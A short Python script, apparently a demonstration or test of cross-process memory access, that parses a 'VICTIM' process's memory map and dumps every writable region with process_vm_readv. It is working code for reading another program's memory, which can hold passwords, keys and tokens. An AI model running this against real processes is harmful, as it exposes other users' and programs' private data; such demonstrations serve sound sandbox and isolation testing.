"""Read another process's memory by process_vm_readv."""

import ctypes
import re

from world import VICTIM


class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]


for start, end in re.findall(r"^(\w+)-(\w+) rw", open(f"/proc/{VICTIM}/maps").read(), re.MULTILINE):
    size = int(end, 16) - int(start, 16)
    text = ctypes.create_string_buffer(size)
    mine = Vector(ctypes.cast(text, ctypes.c_void_p), size)
    ctypes.CDLL(None).process_vm_readv(
        VICTIM, ctypes.byref(mine), 1, ctypes.byref(Vector(int(start, 16), size)), 1, 0
    )
    print(text.raw)
